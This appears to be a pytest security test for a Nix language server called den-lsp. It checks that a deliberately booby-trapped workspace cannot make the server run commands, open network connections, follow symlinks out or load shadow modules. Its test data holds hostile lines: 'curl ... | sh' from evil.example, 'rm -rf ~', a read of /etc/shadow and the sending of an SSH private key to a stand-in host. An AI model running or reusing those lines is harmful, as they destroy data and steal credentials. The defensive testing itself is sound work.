"""Nothing run, nothing leaked: den-lsp reads its workspace and nothing else.

The server runs on a workspace built to tempt it: a den-lsp.toml asking for
commands, .nix files full of ``builtins.exec``, ``fetchurl``, ``import
<nixpkgs>``, absolute paths, URLs and shell text, and symlinks that lead out
of the workspace (to a module, a folder, a .gitignore and a nested flake's
den-lsp.toml). An audit hook (``sys.addaudithook``, installed in the server
process before it serves, see ``server_harness``) records every process,
socket, file and folder the server touches while it indexes, analyses every
document and answers every request on them. Then:

- no process is started, and no command is run;
- no socket is opened but the local pair asyncio makes to wake its own loop,
  and nothing is connected, bound, resolved or sent;
- every file and folder opened lies in the workspace, the Python
  installation (den-lsp's code and its libraries) or the cache directory;
  nothing outside the workspace that a symlink names is opened;
- everything written lies in the cache directory;
- the cache gives back only den-lsp's own classes.
"""

from __future__ import annotations

import os
import socket
import sys
import sysconfig
from pathlib import Path

import pytest
from lsprotocol import types
from pygls.uris import from_fs_path

from client_text import REPO
from den_lsp.features.settings import _SETTINGS_KEYS, KNOWN_KEYS, load_settings
from server_harness import (
    NETWORK_EVENTS,
    PROCESS_EVENTS,
    every_request,
    read_audit,
    session,
)
from test_server import open_document, published

HERE = Path(__file__).resolve().parent

CONFIG = """\
# Settings that a malicious repository might hope a tool runs.
command = "touch /tmp/den-lsp-pwned"
formatter = ["sh", "-c", "curl https://evil.example/x | sh"]
nix = "/run/current-system/sw/bin/nix"
eval = true
exclude = ["/etc/**", "../../**"]

[severity]
"den/isolation-leak" = "error"

[known]
classes = ["$(rm -rf ~)"]
"""

MODULES = {
    "flake.nix": """\
{
  inputs.evil.url = "git+https://evil.example/repo?ref=main";
  inputs.den.url = "github:vic/den";
  outputs = inputs: builtins.exec [ "touch" "/tmp/den-lsp-pwned" ];
}
""",
    "modules/commands.nix": """\
{ den, lib, pkgs, ... }:
let
  run = builtins.exec [ "sh" "-c" "curl https://evil.example | sh" ];
  payload = pkgs.runCommand "x" { } "touch /tmp/den-lsp-pwned; $(rm -rf ~)";
in
{
  den.schema.guest = {
    isEntity = true;
    parent = "host";
    description = "${run} ${payload} `id` $(whoami)";
  };
  den.aspects.evil.nixos.system.activationScripts.x = ''
    ${builtins.readFile /etc/shadow}
    curl https://evil.example/$(cat ~/.ssh/id_rsa | base64)
  '';
}
""",
    "modules/fetches.nix": """\
{ den, ... }:
let
  nixpkgs = import <nixpkgs> { };
  tarball = builtins.fetchTarball "https://evil.example/pwn.tar.gz";
  url = builtins.fetchurl { url = "https://evil.example/x"; sha256 = ""; };
  git = builtins.fetchGit { url = "ssh://git@evil.example/repo.git"; };
  flake = builtins.getFlake "github:evil/repo";
  host = import /etc/nixos/configuration.nix;
  outside = import ../../outside/secret.nix;
  home = import ~/.config/den/evil.nix;
in
{
  imports = [ /etc/nixos/hardware-configuration.nix ../../outside ];
  den.hosts.x86_64-linux.berg = {
    users.ops = { };
    guests.vm = import <den/hostname>;
  };
  den.aspects.berg.includes = [ (import (builtins.toPath "/root/.bashrc")) ];
}
""",
    "sub/flake.nix": "{ outputs = _: { }; }\n",
    "sub/modules/ok.nix": "{ den.aspects.ok = { }; }\n",
}


def _tempting_workspace(tmp_path: Path) -> tuple[Path, Path]:
    outside = tmp_path / "outside"
    (outside / "modules").mkdir(parents=True)
    (outside / "secret.nix").write_text("{ den.schema.guest.isolated = true; }\n")
    (outside / "modules" / "more.nix").write_text("{ den.aspects.more = { }; }\n")
    (outside / "den-lsp.toml").write_text('profile = "ctx"\n')
    (outside / "gitignore").write_text("modules/\n")

    root = tmp_path / "workspace"
    for rel, text in MODULES.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    (root / "den-lsp.toml").write_text(CONFIG)
    (root / "modules" / "secret.nix").symlink_to(outside / "secret.nix")
    (root / "vendor").symlink_to(outside / "modules")
    (root / ".gitignore").symlink_to(outside / "gitignore")
    (root / "sub" / "den-lsp.toml").symlink_to(outside / "den-lsp.toml")
    return root, outside


def _inside(path: str, folders: list[str]) -> bool:
    return any(path == f or path.startswith(f.rstrip("/") + "/") for f in folders)


def _python_folders() -> list[str]:
    """Where the interpreter and the installed packages live."""
    folders = {sys.prefix, sys.base_prefix, sys.exec_prefix, sys.base_exec_prefix}
    for name in ("stdlib", "platstdlib", "purelib", "platlib", "include", "data"):
        path = sysconfig.get_path(name)
        if path:
            folders.add(path)
    return sorted(os.path.realpath(f) for f in folders)


def _opened_path(record: dict) -> str | None:
    path = record["args"][0]
    if not isinstance(path, str):
        return None  # an already open file descriptor
    return os.path.realpath(os.path.join(record["cwd"], path))


def _writes(record: dict) -> bool:
    if record["event"] != "open":
        return record["event"] in ("os.remove", "os.rename", "os.mkdir", "os.rmdir")
    _, mode, flags = (record["args"] + [None, None])[:3]
    if isinstance(mode, str) and any(c in mode for c in "wax+"):
        return True
    if isinstance(flags, int) and flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
        return True
    return False


@pytest.mark.slow
async def test_a_tempting_workspace_runs_nothing_and_reads_only_itself(tmp_path):
    root, outside = _tempting_workspace(tmp_path)
    cache = tmp_path / "cache"
    audit = tmp_path / "audit.jsonl"
    documents = sorted(p for p in root.rglob("*.nix") if not p.is_symlink())

    async with session(root, cache, cwd=root, audit=str(audit)) as client:
        for path in documents:
            uri = from_fs_path(str(path))
            client.text_document_did_open(
                types.DidOpenTextDocumentParams(
                    text_document=types.TextDocumentItem(
                        uri=uri, language_id="nix", version=1, text=path.read_text()
                    )
                )
            )
            await published(client, uri, version=1)
            lines = path.read_text().count("\n")
            for line in range(0, lines, 3):
                await every_request(client, uri, line, 8)
        # The disk changes, through a symlink too; and a client asks the
        # server to run a command.
        client.workspace_did_change_watched_files(
            types.DidChangeWatchedFilesParams(
                changes=[
                    types.FileEvent(
                        uri=from_fs_path(str(p)), type=types.FileChangeType.Changed
                    )
                    for p in (
                        root / "modules" / "secret.nix",
                        root / "vendor" / "more.nix",
                    )
                ]
            )
        )
        with pytest.raises(Exception):
            await client.workspace_execute_command_async(
                types.ExecuteCommandParams(command="sh", arguments=["-c", "id"])
            )
        hover = await client.text_document_hover_async(
            types.HoverParams(
                text_document=types.TextDocumentIdentifier(
                    uri=from_fs_path(str(root / "modules/commands.nix"))
                ),
                position=types.Position(line=6, character=15),
            )
        )
        assert hover is not None  # the server worked while it was watched
        logged = " ".join(m.message for m in client.log_messages)

    # Started again, the server reads what it cached.
    async with session(root, cache, cwd=root, audit=str(audit)) as client:
        uri = open_document(client, root, "modules/commands.nix")
        await published(client, uri, version=1)
        assert any("from the cache" in m.message for m in client.log_messages)

    records = read_audit(audit)
    assert len(records) > 50  # the hook saw the server at work
    events = {r["event"] for r in records}

    # No process, no command.
    started = events & PROCESS_EVENTS
    assert started == set()

    # No network: only the local socket pair of asyncio's own loop.
    network = events & NETWORK_EVENTS
    assert network == set()
    families = {r["args"][0] for r in records if r["event"] == "socket.__new__"}
    assert families <= {int(socket.AF_UNIX)}

    # Files and folders: the workspace, Python and den-lsp, the cache.
    allowed = [
        os.path.realpath(root),
        os.path.realpath(cache),
        *_python_folders(),
        os.path.realpath(REPO / "server"),
        os.path.realpath(REPO / "grammar-queries"),
        os.path.realpath(HERE),  # the test harness itself, imported at start
        "/dev/null",
        "/proc/self",
    ]
    touched = sorted(
        {
            path
            for r in records
            if r["event"] in ("open", "os.listdir", "os.scandir")
            and (path := _opened_path(r)) is not None
        }
    )
    assert [p for p in touched if not _inside(p, allowed)] == []
    assert [p for p in touched if _inside(p, [os.path.realpath(outside)])] == []

    # Writes: only the cache.
    written = sorted(
        {p for r in records if _writes(r) and (p := _opened_path(r)) is not None}
    )
    assert written and all(_inside(p, [os.path.realpath(cache)]) for p in written)

    # What the cache unpickles: den-lsp's own data, nothing else.
    classes = {
        tuple(r["args"][:2]) for r in records if r["event"] == "pickle.find_class"
    }
    assert all(module.startswith("den_lsp.") for module, _ in classes), classes

    # The symlinks out were refused, and said so.
    for rel in ("modules/secret.nix",):
        assert f"{rel}: cannot read: a symlink to" in logged


def test_the_configuration_has_no_field_that_names_a_command(tmp_path):
    assert _SETTINGS_KEYS == {"profile", "severity", "exclude", "known"}
    assert set(KNOWN_KEYS) == {"classes", "kinds", "context-keys"}
    (tmp_path / "den-lsp.toml").write_text(CONFIG)
    settings, problems = load_settings(tmp_path)
    assert [p.split(": ", 1)[1] for p in problems] == [
        "unknown setting 'command'",
        "unknown setting 'eval'",
        "unknown setting 'formatter'",
        "unknown setting 'nix'",
    ]
    # What is kept is data: a profile name, severities, path patterns, names.
    assert settings.exclude == ("/etc/**", "../../**")
    assert settings.known.classes == frozenset({"$(rm -rf ~)"})


# Modules a workspace could hold to have them imported in place of the real
# ones: each leaves a mark outside the workspace if it is ever run.
SHADOWS = (
    "den_lsp/__init__.py",
    "multiprocessing/__init__.py",
    "json.py",
    "tomllib.py",
    "pathspec.py",
    "pygls/__init__.py",
    "lsprotocol/__init__.py",
    "tree_sitter.py",
    "hashlib.py",
    "pickle.py",
    "concurrent/__init__.py",
)


def _launch(kind: str) -> list[str]:
    if kind == "den-lsp serve":
        return [str(Path(sys.executable).parent / "den-lsp"), "serve"]
    if kind == "python -P -m den_lsp serve":
        return [sys.executable, "-P", "-m", "den_lsp", "serve"]
    return [sys.executable, "-m", "den_lsp", "serve"]


@pytest.mark.slow
@pytest.mark.parametrize(
    "launch",
    ["den-lsp serve", "python -P -m den_lsp serve", "python -m den_lsp serve"],
)
async def test_modules_in_the_workspace_are_never_imported(launch, tmp_path):
    marks = tmp_path / "marks"
    marks.mkdir()
    root = tmp_path / "workspace"
    modules = root / "modules"
    modules.mkdir(parents=True)
    # Enough files for the analysis to start processes of its own.
    for i in range(400):
        (modules / f"a{i}.nix").write_text(f"{{ den.aspects.a{i} = {{ }}; }}\n")
    shadows = SHADOWS
    if launch == "python -m den_lsp serve":
        # Plain `python -m` finds a workspace's den_lsp/ before den-lsp can
        # do anything, which is why the editors start it with -P.
        shadows = tuple(s for s in SHADOWS if not s.startswith("den_lsp/"))
    for rel in shadows:
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        name = rel.replace("/", ".")
        (root / rel).write_text(
            f"open({str(marks / name)!r}, 'w').write('imported')\n"
            "raise ImportError('a module of the workspace')\n"
        )

    async with session(
        root, tmp_path / "cache", server_command=_launch(launch), cwd=root
    ) as client:
        uri = open_document(
            client, root, (modules / "a1.nix").relative_to(root).as_posix()
        )
        await published(client, uri, version=1)
        indexed = [m.message for m in client.log_messages if "indexed" in m.message]
        assert any("400 files" in m for m in indexed), indexed

    assert sorted(p.name for p in marks.iterdir()) == []
